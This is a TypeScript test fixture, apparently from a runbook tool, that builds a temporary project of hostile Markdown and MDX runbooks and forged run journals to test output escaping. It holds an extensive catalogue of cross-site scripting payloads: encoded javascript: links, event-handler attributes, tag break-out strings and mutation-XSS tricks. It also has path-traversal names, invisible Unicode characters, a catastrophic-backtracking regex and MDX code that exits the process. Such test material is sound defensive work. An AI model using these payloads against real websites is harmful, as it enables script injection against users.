import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

/** What each piece of hostile text would do if a browser took it for more than text. */
const act = "window.pwned=1";
const elsewhere = "https://evil.example";

/** Pieces that `.md` and `.mdx` can both hold, by what they try. */
const everywhere: Readonly<Record<string, string>> = {
  "links with other schemes": [
    `[a](javascript:${act})`,
    `[b](JaVaScRiPt:${act})`,
    `[c](java&#115;cript&colon;${act})`,
    `[d](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${act})`,
    `[e](vbscript:msgbox)`,
    `[f](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
    `[g](blob:${elsewhere}/1)`,
    `[h](file:///etc/passwd)`,
    `[i][ref] [j](%6A%61%76%61script:${act}) [k](\u0001javascript:${act})`,
    `\n\n[ref]: javascript:${act}`,
  ].join("\n"),
  "images from elsewhere": `![a](${elsewhere}/a.png) ![b](//evil.example/b.png) ![c](javascript:${act}) ![d](data:image/svg+xml,<svg/onload=${act}>)`,
  credentials: `[bank](https://bank.example@evil.example/) [user](https://user:hunter2@evil.example/x)`,
  "what is not seen":
    "A\u202Etxet\u202C b\u2066c\u2069 zero\u200Bwidth\u200Cjoin\u200Dmark\uFEFF soft\u00ADhyphen tag\u{E0041}\u{E0042} nul\u0000 bell\u0007 [li\u202Enk](https://example.org/\u202Egpj)",
  "template literals":
    "`${alert(1)}` and `{{constructor.constructor('alert(1)')()}}` and `<%= 1 %>`",
  "a table": `| <b onclick="${act}">a</b> | b |\n|---|---|\n| \`<script>${act}</script>\` | [x](javascript:${act}) |`,
  "a task": `- [ ] <img src="x" onerror="${act}" /> do [it](javascript:${act})`,
  "a footnote": `Text[^<script>] and[^1].\n\n[^1]: <img src="x" onerror="${act}" /> [l](javascript:${act})`,
  "an alert": `> [!WARNING]\n> <iframe srcdoc="x"></iframe> <img src="x" onerror="${act}" />`,
};

/** HTML that both formats can hold: in MDX it is read as elements of our own kind. */
const elements: readonly string[] = [
  `<a href="javascript:${act}" onclick="${act}">a</a>`,
  `<a href=" &#14; javascript:${act}">b</a>`,
  `<a href="${elsewhere}" ping="${elsewhere}/ping" target="_blank" download="x">c</a>`,
  `<img src="x" onerror="${act}" onload="${act}" />`,
  `<img src="${elsewhere}/i.png" srcset="${elsewhere}/i2.png 2x" />`,
  `<svg onload="${act}"><script>${act}</script><animate onbegin="${act}" attributeName="x" /></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>d</text></a><use href="data:image/svg+xml,x" /></svg>`,
  `<math href="javascript:${act}"><mi xlink:href="javascript:${act}">e</mi></math>`,
  `<div style="position:fixed;inset:0;background:url(${elsewhere}/css)" onmouseover="${act}">covers all</div>`,
  `<form action="${elsewhere}/form" id="inputs" name="body"><input name="attributes" autofocus onfocus="${act}" /><button formaction="javascript:${act}">send</button></form>`,
  `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;" src="javascript:${act}"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="${elsewhere}/e.swf" />`,
  `<video src="${elsewhere}/v.mp4" onerror="${act}" autoplay poster="${elsewhere}/p.png"><source src="${elsewhere}/v2.mp4" /></video>`,
  `<audio src="${elsewhere}/a.mp3" autoplay></audio>`,
  `<base href="${elsewhere}/" />`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/" />`,
  `<link rel="stylesheet" href="${elsewhere}/s.css" />`,
  `<link rel="prefetch" href="${elsewhere}/p" />`,
  `<details ontoggle="${act}" open><summary onclick="${act}">f</summary>g</details>`,
  `<marquee onstart="${act}">h</marquee>`,
  `<template><img src="x" onerror="${act}" /></template>`,
  `<dialog open id="search" class="dialog">i</dialog>`,
  `<p class="copy badge danger" id="page:main" data-copy="x" data-step="forged" data-runbook="forged">j</p>`,
  `<a id="step-one" name="getElementById">k</a> <a id="__proto__">l</a> <a id="documentElement">m</a>`,
  `<img id="page:inputs:data" name="currentScript" src="x" /><img name="cookie" src="x" />`,
];

/** What only `.md` can hold: text that no MDX parser takes. */
const htmlOnly = `
<script>${act}</script>
<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>
<script type="module">import "${elsewhere}/m.js"; ${act}</script>
<style>@import "${elsewhere}/i.css"; body { display: none } a { background: url("${elsewhere}/u") }</style>
<img src=x onerror=${act}> <img src=\`x\`onerror=${act}> <img/src=x/onerror=${act}>
<svg/onload=${act}> <svg><style><img src=x onerror=${act}></style></svg>
<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">
<textarea></textarea><img src=x onerror=${act}><title></title><img src=x onerror=${act}>
<xmp><p title="</xmp><img src=x onerror=${act}>"></xmp>
<!--><img src=x onerror=${act}>--> <![CDATA[<img src=x onerror=${act}>]]> <?php ${act} ?>
<a href="java
script:${act}">n</a> <a href=javascript&colon;${act}>o</a> <a href="jav&#x09;ascript:${act}">p</a>
<plaintext><img src=x onerror=${act}>
`;

const breakOut = `</title></script></style></textarea></code></pre>--><script>${act}</script><img src=x onerror=${act}>`;

/** Front matter of hostile texts in each place that a page or a list shows. */
const frontMatter = {
  title: `T ${breakOut}`,
  summary: `S ${breakOut} "onmouseover="${act}" [l](javascript:${act})`,
  owner: `"><img src=x onerror=${act}>`,
  contacts: [{ role: breakOut, contact: `javascript:${act}` }],
  tags: ["../../escape", `<img src=x onerror=${act}>`, "__proto__", "constructor"],
  services: [`"><script>${act}</script>`, "..", "a/b"],
  alerts: ["../../../Escape", `<svg onload=${act}>`, "%2e%2e", "CON"],
  tools: { git: { version: breakOut, install: breakOut } },
  inputs: {
    EVIL: {
      type: "enum",
      choices: [breakOut, "\u202Eevil"],
      description: breakOut,
      default: breakOut,
      example: `\${EVIL} ${breakOut}`,
    },
    PLAIN: { pattern: "(a+)+$", description: "`${1}` \u2028 line", default: `"'><b>` },
  },
  contracts: {
    place: { description: breakOut, variables: { DATABASE_URL: { description: breakOut } } },
  },
  procedures: { all: { title: breakOut, default: true, steps: [{ step: "one" }] } },
  estimate: "5m..15m",
  severity: "sev1",
  extra: { [breakOut]: breakOut },
};

function writeRunbook(format: "md" | "mdx"): string {
  const html = [...elements, ...(format === "md" ? [htmlOnly] : [])].join("\n\n");
  const pieces = Object.entries(everywhere).map(([name, text]) => {
    // MDX has no raw control characters to hide from, and reads `<%` as an element that fails.
    const body =
      format === "mdx"
        ? text.replaceAll(/<%= 1 %>|\{\{.*?\}\}|<script>|\[\^<[^\]]*\]/gu, "")
        : text;
    return `## About ${name}\n\n${body}`;
  });
  const fences = [
    `\`\`\`bash id=one title="${breakOut.replaceAll('"', "'")}"`,
    `echo "${breakOut}" "$EVIL" '\u202E hidden' \`\${x}\``,
    "```",
    "",
    "```output",
    breakOut,
    "```",
    "",
    "```html",
    breakOut,
    "```",
  ].join("\n");
  const statements =
    format === "mdx"
      ? `import "node:fs"\nexport const x = globalThis.process?.exit(99)\n\n{globalThis.process.exit(98)}\n\n<Danger title={"<img src=x onerror=${act}>"} onClick="${act}">careful</Danger>\n\n<Manual title="<svg onload=${act}>" id="hand">by <b onClick="${act}">hand</b></Manual>`
      : "";
  return [
    `---\n${JSON.stringify(frontMatter)}\n---`,
    "# Steps",
    fences,
    statements,
    ...pieces,
    "## Elements",
    html,
  ].join("\n\n");
}

/** A run's journal as somebody would forge it. */
function writeJournal(run: string): string {
  const time = "2026-02-03T04:05:06.789Z";
  const step = { kind: "command", id: `one ${breakOut}`, title: breakOut, runbook: "hostile" };
  const plan = {
    target: `hostile ${breakOut}`,
    title: breakOut,
    digest: "0".repeat(64),
    runbook: "hostile",
    steps: [step],
  };
  const events = [
    { type: "run-started", run, plan, host: breakOut, user: breakOut, pid: 1, directory: "/" },
    { type: "step-started", stepId: step.id, phase: "main", attempt: 1 },
    {
      type: "step-ended",
      stepId: step.id,
      phase: "main",
      outcome: "failed",
      exitCode: 1,
      durationMs: 5,
      reason: breakOut,
    },
    { type: "run-ended", outcome: "failed", exitCode: 4, durationMs: 9, reason: breakOut },
  ];
  return events.map((event, at) => `${JSON.stringify({ seq: at + 1, time, ...event })}\n`).join("");
}

/** A project of hostile runbooks in a temporary folder. */
export interface HostileProject {
  readonly root: string;
  remove(): Promise<void>;
}

/** Writes a project in which every text that a site shows is hostile. Writes files. */
export async function writeHostileProject(): Promise<HostileProject> {
  const root = await mkdtemp(path.join(tmpdir(), "opswright-hostile-"));
  const longLine = `${"word & ".repeat(149_797)}${"x <b> & ".repeat(2048)}`;
  const files: Readonly<Record<string, string>> = {
    "runbooks/hostile.md": writeRunbook("md"),
    "runbooks/hostile-components.mdx": writeRunbook("mdx"),
    "runbooks/long.md": `# Long\n\n${longLine}\n\n\`\`\`bash\necho '${"y".repeat(1_048_576)}'\n\`\`\`\n`,
    "runbooks/a'\"&<b>.md": `# A name ${breakOut}\n\n\`\`\`bash\ntrue\n\`\`\`\n`,
    "runbooks/deep.mdx": `---\ntitle: Deep\n---\n\n${"<Note>\n\n".repeat(3000)}x\n\n${"</Note>\n\n".repeat(3000)}`,
    "runbooks/tags.md": `# Tags\n\n${"<b>".repeat(3000)}\n\n\`\`\`bash\ntrue\n\`\`\`\n`,
    "runbooks/broken.mdx": `# Broken ${breakOut} {\n\n<b onclick="${act}">`,
    "runbooks/.verified.json": JSON.stringify({
      schemaVersion: 1,
      runbooks: { hostile: { one: { digest: breakOut, verifiedAt: breakOut, how: breakOut } } },
    }),
    ".opswright/runs/20260203-040506-hostile-aaaa/events.ndjson":
      writeJournal("../../../../escape"),
    ".opswright/runs/20260203-040507-hostile-bbbb/events.ndjson": writeJournal(
      "20260203-040507-hostile-bbbb",
    ),
  };
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(root, name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, text);
  }
  return { root, remove: () => rm(root, { recursive: true, force: true }) };
}
